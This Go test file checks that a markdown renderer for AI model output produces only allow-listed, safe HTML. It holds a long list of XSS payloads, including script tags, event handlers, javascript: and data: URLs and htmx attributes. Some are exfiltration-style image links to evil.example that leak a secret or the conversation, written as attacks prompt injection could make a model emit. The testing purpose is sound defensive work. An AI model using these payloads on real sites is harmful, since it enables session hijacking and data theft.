package markdown

import (
	"bytes"
	"regexp"
	"strings"
	"testing"

	"github.com/alecthomas/chroma/v2"
	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// parseHTML parses out as a browser parses a fragment set as innerHTML.
func parseHTML(t testing.TB, out []byte) []*html.Node {
	t.Helper()
	ctx := &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div}
	nodes, err := html.ParseFragment(bytes.NewReader(out), ctx)
	if err != nil {
		t.Fatalf("parse %q: %v", out, err)
	}
	return nodes
}

var (
	safeHrefRE = regexp.MustCompile(`^(?i:https?://|mailto:)[^\x00-\x20\x7f]*$`)
	digitsRE   = regexp.MustCompile(`^[0-9]{1,9}$`)
)

// attrRule says which values an allowed attribute may take.
type attrRule func(v string) bool

func is(values ...string) attrRule {
	return func(v string) bool {
		for _, w := range values {
			if v == w {
				return true
			}
		}
		return false
	}
}

// allowed is the allow-list of elements and of their attributes.
func allowed() map[string]map[string]attrRule {
	none := map[string]attrRule{}
	spanClasses := []string{"code-lang"}
	for _, c := range tokenClasses() {
		if c != "" {
			spanClasses = append(spanClasses, c)
		}
	}
	m := map[string]map[string]attrRule{
		"a": {
			"href":   safeHrefRE.MatchString,
			"rel":    is("noopener noreferrer nofollow"),
			"target": is("_blank"),
			"class":  is("image"),
		},
		"input":  {"type": is("checkbox"), "disabled": is(""), "checked": is("")},
		"ol":     {"start": digitsRE.MatchString},
		"th":     {"align": is("left", "center", "right")},
		"td":     {"align": is("left", "center", "right")},
		"div":    {"class": is("code", "code-head")},
		"span":   {"class": is(spanClasses...)},
		"button": {"type": is("button"), "class": is("copy"), "data-copy": is("")},
		"pre":    {"class": is("chroma")},
	}
	for _, tag := range strings.Fields("p h1 h2 h3 h4 h5 h6 ul li blockquote code em strong del table thead tbody tr hr br") {
		m[tag] = none
	}
	return m
}

var allowList = allowed()

// checkSafe fails unless out, parsed as HTML, has only allowed elements and
// attributes (and no comment): every link goes to http(s) or mailto, every
// input is a disabled checkbox, every a opens in a new tab without opener
// or referrer, and no a is inside another.
func checkSafe(t testing.TB, src string, out []byte) {
	t.Helper()
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		switch n.Type {
		case html.ElementNode:
			attrs, ok := allowList[n.Data]
			if !ok || n.Namespace != "" {
				t.Fatalf("element <%s> (ns %q) in the output of %q:\n%s", n.Data, n.Namespace, src, out)
			}
			seen := map[string]bool{}
			for _, a := range n.Attr {
				rule, ok := attrs[a.Key]
				if !ok || a.Namespace != "" || !rule(a.Val) {
					t.Fatalf("attribute %s=%q on <%s> in the output of %q:\n%s", a.Key, a.Val, n.Data, src, out)
				}
				seen[a.Key] = true
			}
			switch n.Data {
			case "a":
				if !seen["href"] || !seen["rel"] || !seen["target"] {
					t.Fatalf("<a> without href, rel and target in the output of %q:\n%s", src, out)
				}
				for p := n.Parent; p != nil; p = p.Parent {
					if p.Type == html.ElementNode && p.Data == "a" {
						t.Fatalf("<a> inside <a> in the output of %q:\n%s", src, out)
					}
				}
			case "input":
				if !seen["disabled"] || !seen["type"] {
					t.Fatalf("<input> not a disabled checkbox in the output of %q:\n%s", src, out)
				}
			}
		case html.CommentNode, html.DoctypeNode:
			t.Fatalf("comment or doctype in the output of %q:\n%s", src, out)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	for _, n := range parseHTML(t, out) {
		walk(n)
	}
	// The parser closes an <a> that another opens: look at the tags too.
	z := html.NewTokenizer(bytes.NewReader(out))
	depth := 0
	for tt := z.Next(); tt != html.ErrorToken; tt = z.Next() {
		name, _ := z.TagName()
		if string(name) != "a" {
			continue
		}
		switch tt {
		case html.StartTagToken:
			if depth++; depth > 1 {
				t.Fatalf("<a> inside <a> in the output of %q:\n%s", src, out)
			}
		case html.EndTagToken:
			depth--
		}
	}
}

// textContent returns the text of the parsed output, as a browser's
// textContent would.
func textContent(t testing.TB, out []byte) string {
	var b strings.Builder
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.TextNode {
			b.WriteString(n.Data)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	for _, n := range parseHTML(t, out) {
		walk(n)
	}
	return b.String()
}

// codeText returns the textContent of the first <pre><code> of out.
func codeText(t testing.TB, out []byte) string {
	t.Helper()
	var code *html.Node
	var find func(n *html.Node)
	find = func(n *html.Node) {
		if code != nil {
			return
		}
		if n.Type == html.ElementNode && n.Data == "code" && n.Parent != nil && n.Parent.Data == "pre" {
			code = n
			return
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			find(c)
		}
	}
	for _, n := range parseHTML(t, out) {
		find(n)
	}
	if code == nil {
		t.Fatalf("no <pre><code> in %s", out)
	}
	var b bytes.Buffer
	if err := html.Render(&b, code); err != nil {
		t.Fatal(err)
	}
	return textContent(t, b.Bytes())
}

// xssVectors are attacks a prompt injection could make a model write.
var xssVectors = []string{
	`<script>alert(1)</script>`,
	"<script>\nalert(1)\n</script>",
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="https://evil.example/leak?c=SECRET">`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>">`,
	`<object data="javascript:alert(1)"></object><embed src=x>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href=# onclick=alert(1)>x</a>`,
	`<form action=javascript:alert(1)><input type=submit></form>`,
	`<base href="//evil.example/"><link rel=stylesheet href=//evil.example/x.css>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<div hx-get="/conversations/1/delete" hx-trigger="load">x</div>`,
	`<button hx-post="/x" hx-on::after-request="alert(1)">go</button>`,
	`<p hx-on:click="alert(1)" data-hx-get="/x">text</p>`,
	`<hx-partial hx-target="#m1-done">injected</hx-partial>`,
	"<hx-partial hx-target=\"#m1-tail\">\n\n*md*\n\n</hx-partial>",
	`<style>body{display:none}</style>`,
	`<div style="position:fixed;inset:0;background:url(https://evil.example/x)">x</div>`,
	`<span style="color:red">red</span>`,
	`<script`,
	`<img src=x onerror=alert(1)//`,
	`<div`,
	`<!--`,
	`<!-- <script>alert(1)</script> -->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?php echo 1; ?>`,
	`</p><script>alert(1)</script><p>`,
	`</code></pre><script>alert(1)</script>`,
	`[click](javascript:alert(1))`,
	`[click](JaVaScRiPt:alert(1))`,
	`[click](&#106;avascript:alert(1))`,
	`[click](&#x6A;&#x61;vascript:alert(1))`,
	`[click](java&#x09;script:alert(1))`,
	`[click](java&Tab;script:alert(1))`,
	`[click](javascript&colon;alert(1))`,
	`[click](<javascript:alert(1)>)`,
	`[click](\javascript:alert(1))`,
	`[click]( javascript:alert(1) )`,
	`[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`[click](DATA:text/html,<script>alert(1)</script>)`,
	`[click](vbscript:msgbox(1))`,
	`[click](VBScript:msgbox(1))`,
	`[click](file:///etc/passwd)`,
	`[click](//evil.example/x)`,
	`[click](/relative)`,
	`[click](#frag)`,
	`[click](https://ok.example "title\" onmouseover=\"alert(1)")`,
	`[click](https://ok.example 'a" onmouseover="alert(1)')`,
	`[click](https://ok.example (a" onmouseover="alert(1)))`,
	`[click](https://ok.example/"onmouseover="alert(1))`,
	`[click](<https://ok.example/" onmouseover="alert(1)>)`,
	`[click](https://ok.example/&quot;onmouseover=&quot;alert(1))`,
	`https://ok.example/"onmouseover="alert(1)`,
	`www.example.com/<script>alert(1)</script>`,
	`<javascript:alert(1)>`,
	`<JAVASCRIPT:alert(1)>`,
	`<data:text/html,<script>alert(1)</script>>`,
	`<vbscript:msgbox(1)>`,
	`<https://ok.example/"onclick="alert(1)>`,
	`![x](javascript:alert(1))`,
	`![x](data:image/png;base64,iVBORw0KGgo=)`,
	`![x](data:image/svg+xml,<svg onload=alert(1)>)`,
	`![secret](https://evil.example/leak?q=THE+CONVERSATION)`,
	`![x" onerror="alert(1)](https://ok.example/x.png)`,
	`![<img src=x onerror=alert(1)>](https://ok.example/x.png)`,
	`[![x](https://ok.example/i.png)](javascript:alert(1))`,
	`[![x](javascript:alert(1))](https://ok.example/)`,
	`[link with www.example.com inside](https://ok.example/)`,
	`[x]: javascript:alert(1)` + "\n\n[x]",
	`[x][y]` + "\n\n[y]: data:text/html,x",
	`# Heading {onclick="alert(1)" #id .class}`,
	"para\n{: onclick=\"alert(1)\" style=\"x\"}",
	"```\"><script>alert(1)</script>\ncode\n```",
	"```js onclick=alert(1)\nalert(1)\n```",
	"```html\n<script>alert(1)</script>\n```",
	"~~~<img src=x onerror=alert(1)>\nx\n~~~",
	"`<script>alert(1)</script>`",
	"| a | <script>alert(1)</script> |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
	"- [ ] <input type=checkbox onclick=alert(1)>\n- [x] <button hx-get=/x>b</button>",
	"> <script>alert(1)</script>\n> [x](javascript:alert(1))",
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`\<script>alert(1)\</script>`,
	"\x00<script>alert(1)</script>",
	`<scr<script>ipt>alert(1)</script>`,
	`<a href="https://ok.example" target="_self" rel="opener">x</a>`,
	`$<img src=x onerror=alert(1)>$ and $$<svg onload=alert(1)>$$`,
	`<mailto:x@y.z?body=<script>>`,
	`[mail](mailto:a@b.example?subject=<script>)`,
	`<x@y.example>`,
}

func TestXSSVectors(t *testing.T) {
	r := New()
	for _, v := range xssVectors {
		out := r.Render(v)
		checkSafe(t, v, out)
		// The same in a list, a quote and a table cell, and streamed.
		for _, wrapped := range []string{"- " + v + "\n- x", "> " + v, "intro\n\n" + v + "\n\nafter"} {
			checkSafe(t, wrapped, r.Render(wrapped))
		}
		s := r.Stream()
		for _, end := range tokenEnds(v+"\n\nafter\n", 5) {
			for _, op := range s.Grow((v + "\n\nafter\n")[:end]) {
				checkSafe(t, v, op.HTML)
			}
		}
	}
}

// TestRawHTMLShownAsText checks that HTML in model output shows as text, not
// dropped or replaced by a comment.
func TestRawHTMLShownAsText(t *testing.T) {
	r := New()
	for src, want := range map[string]string{
		`<script>alert(1)</script>`:                 `<script>alert(1)</script>`,
		"<div hx-get=\"/x\">\nhello\n</div>":        `<div hx-get="/x">`,
		`a <span style="color:red">red</span> b`:    `a <span style="color:red">red</span> b`,
		`<hx-partial hx-target="#x">y</hx-partial>`: `<hx-partial hx-target="#x">y</hx-partial>`,
		`<!-- c -->`: `<!-- c -->`,
	} {
		out := r.Render(src)
		if got := textContent(t, out); !strings.Contains(got, want) {
			t.Errorf("Render(%q) shows %q, want it to contain %q (html %q)", src, got, want, out)
		}
	}
}

func TestLinks(t *testing.T) {
	r := New()
	for src, want := range map[string]string{
		`[Go](https://go.dev "The Go site")`:                        `<p><a href="https://go.dev" rel="noopener noreferrer nofollow" target="_blank">Go</a></p>` + "\n",
		`<https://example.com/?a=1&b=2>`:                            `<p><a href="https://example.com/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">https://example.com/?a=1&amp;b=2</a></p>` + "\n",
		`<a@b.example>`:                                             `<p><a href="mailto:a@b.example" rel="noopener noreferrer nofollow" target="_blank">a@b.example</a></p>` + "\n",
		`see www.example.org.`:                                      `<p>see <a href="http://www.example.org" rel="noopener noreferrer nofollow" target="_blank">www.example.org</a>.</p>` + "\n",
		`![a *diagram*](https://example.com/d.png)`:                 `<p><a href="https://example.com/d.png" rel="noopener noreferrer nofollow" target="_blank" class="image">a diagram</a></p>` + "\n",
		`![](https://example.com/d.png)`:                            `<p><a href="https://example.com/d.png" rel="noopener noreferrer nofollow" target="_blank" class="image">https://example.com/d.png</a></p>` + "\n",
		`[![badge](https://e.example/b.svg)](https://e.example/ci)`: `<p><a href="https://e.example/ci" rel="noopener noreferrer nofollow" target="_blank">badge</a></p>` + "\n",
		`[**bold** link](javascript:alert(1))`:                      `<p><strong>bold</strong> link</p>` + "\n",
		`![alt](javascript:alert(1))`:                               `<p>alt</p>` + "\n",
		`[rel](./README.md)`:                                        `<p>rel</p>` + "\n",
		"[x]\n\n[x]: https://example.com":                           "<p>[x]</p>\n<p>[x]: <a href=\"https://example.com\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">https://example.com</a></p>\n",
	} {
		if got := string(r.Render(src)); got != want {
			t.Errorf("Render(%q)\n got %q\nwant %q", src, got, want)
		}
	}
}

func TestGFMAndText(t *testing.T) {
	r := New()
	for src, want := range map[string]string{
		"~~gone~~":                        "<p><del>gone</del></p>\n",
		"- [ ] todo\n- [x] done":          "<ul>\n<li><input disabled=\"\" type=\"checkbox\"> todo</li>\n<li><input checked=\"\" disabled=\"\" type=\"checkbox\"> done</li>\n</ul>\n",
		"| a | b |\n|:-:|--:|\n| 1 | 2 |": "<table>\n<thead>\n<tr>\n<th align=\"center\">a</th>\n<th align=\"right\">b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td align=\"center\">1</td>\n<td align=\"right\">2</td>\n</tr>\n</tbody>\n</table>\n",
		"3. three\n4. four":               "<ol start=\"3\">\n<li>three</li>\n<li>four</li>\n</ol>\n",
		"$E = mc^2$ and $$x_1$$":          "<p>$E = mc^2$ and $$x_1$$</p>\n",
		"日本語の\n文章です。":                     "<p>日本語の文章です。</p>\n",
		"English\nwords":                  "<p>English\nwords</p>\n",
		"**「強調」**\\ です":                   "<p><strong>「強調」</strong>です</p>\n",
		"Title\n===":                      "<h1>Title</h1>\n",
		"a\n\n---\n\nb":                   "<p>a</p>\n<hr>\n<p>b</p>\n",
		"line  \nbreak":                   "<p>line<br>\nbreak</p>\n",
		"# Heading {#id .cls}":            "<h1>Heading {#id .cls}</h1>\n",
	} {
		if got := string(r.Render(src)); got != want {
			t.Errorf("Render(%q)\n got %q\nwant %q", src, got, want)
		}
	}
}

func TestCodeBlocks(t *testing.T) {
	r := New()
	for _, c := range []struct{ src, lang, code string }{
		{"```go\npackage main\n\nfunc main() { println(\"<&>\") }\n```", "go", "package main\n\nfunc main() { println(\"<&>\") }\n"},
		{"```python\ndef f():\n    return '\\n'\n```", "python", "def f():\n    return '\\n'\n"},
		{"```js\nconst a = `x${1}`;\n```", "js", "const a = `x${1}`;\n"},
		{"```rust\nfn main() {}", "rust", "fn main() {}\n"},
		{"```bash\necho \"$HOME\" | tr a b\n```", "bash", "echo \"$HOME\" | tr a b\n"},
		{"```html\n<script>alert(1)</script>\n```", "html", "<script>alert(1)</script>\n"},
		{"```sql\nSELECT * FROM t WHERE a < 1;\n```", "sql", "SELECT * FROM t WHERE a < 1;\n"},
		{"```go\r\nx := 1\r\ny := 2\r\n```\r\n", "go", "x := 1\ny := 2\n"},
		{"```no-such-language\n<b>\n```", "no-such-language", "<b>\n"},
		{"```\nplain\n```", "", "plain\n"},
		{"    indented\n    code", "", "indented\ncode\n"},
		{"- item\n\n  ```yaml\n  a: 1\n  ```", "yaml", "a: 1\n"},
	} {
		out := r.Render(c.src)
		checkSafe(t, c.src, out)
		if got := codeText(t, out); got != c.code {
			t.Errorf("Render(%q): code text %q, want %q", c.src, got, c.code)
		}
		lang := ""
		if c.lang != "" {
			lang = `<span class="code-lang">` + c.lang + `</span>`
		}
		head := `<div class="code"><div class="code-head">` + lang + `<button type="button" class="copy" data-copy>Copy</button></div><pre class="chroma"><code>`
		if !bytes.Contains(out, []byte(head)) {
			t.Errorf("Render(%q) = %q, want the code wrapper %q", c.src, out, head)
		}
	}
	// Known languages are highlighted with classes.
	if out := r.Render("```go\nfunc main() {}\n```"); !bytes.Contains(out, []byte(`<span class="kd">func</span>`)) {
		t.Errorf("go is not highlighted: %q", out)
	}
}

func TestCSS(t *testing.T) {
	css := string(CSS())
	for _, want := range []string{
		".chroma {", ".chroma .k {",
		"@media (prefers-color-scheme: dark) {\n:root:not([data-theme=light]) .chroma {",
		"[data-theme=dark] .chroma {", "[data-theme=dark] .chroma .k {",
	} {
		if !strings.Contains(css, want) {
			t.Errorf("CSS lacks %q", want)
		}
	}
	if strings.Contains(css, "#-") {
		t.Error("CSS has an unset colour")
	}
	// Every class a span can get has a rule in a palette.
	for _, c := range tokenClasses() {
		if c != "" && !strings.Contains(css, "\n.chroma ."+c+" {") && !strings.Contains(css, "[data-theme=dark] .chroma ."+c+" {") {
			t.Errorf("no rule for span class %q", c)
		}
	}
	// Every colour of a token meets WCAG AA against its background.
	rule := regexp.MustCompile(`(?m)^(.*)\.chroma(?: \.([a-z0-9]+))? \{ (.*) \}$`)
	colour := regexp.MustCompile(`(?:^|; )color: (#[0-9a-f]{6})`)
	bgc := regexp.MustCompile(`background-color: (#[0-9a-f]{6})`)
	bgOf := map[string]string{}
	for _, m := range rule.FindAllStringSubmatch(css, -1) {
		if m[2] == "" {
			bgOf[m[1]] = bgc.FindStringSubmatch(m[3])[1]
		}
	}
	n := 0
	for _, m := range rule.FindAllStringSubmatch(css, -1) {
		fg := colour.FindStringSubmatch(m[3])
		if fg == nil {
			continue
		}
		bg := bgOf[m[1]]
		if b := bgc.FindStringSubmatch(m[3]); b != nil {
			bg = b[1]
		}
		n++
		if c := contrast(parseColour(t, fg[1]), parseColour(t, bg)); c < 4.5 {
			t.Errorf("%q: contrast %.2f", m[0], c)
		}
	}
	if n < 50 {
		t.Errorf("only %d colour rules checked", n)
	}
}

func TestConcurrentUse(t *testing.T) {
	r := New()
	text, ends := benchAnswer(t)
	want := r.Render(text)
	done := make(chan []byte)
	for range 4 {
		go func() {
			s := r.Stream()
			var dom DOM
			for _, end := range ends[:400] {
				for _, op := range s.Grow(text[:end]) {
					_ = dom.Apply(op)
				}
			}
			_ = CSS()
			done <- []byte(dom.HTML())
		}()
	}
	want400 := canonical(r.RenderOpen(text[:ends[399]]))
	for range 4 {
		if got := <-done; string(got) != want400 {
			t.Error("concurrent Stream differs")
		}
	}
	for range 4 {
		go func() { done <- r.Render(text) }()
	}
	for range 4 {
		if got := <-done; !bytes.Equal(got, want) {
			t.Error("concurrent Render differs")
		}
	}
}

func parseColour(t testing.TB, s string) chroma.Colour {
	t.Helper()
	c := chroma.ParseColour(s)
	if !c.IsSet() {
		t.Fatalf("colour %q", s)
	}
	return c
}
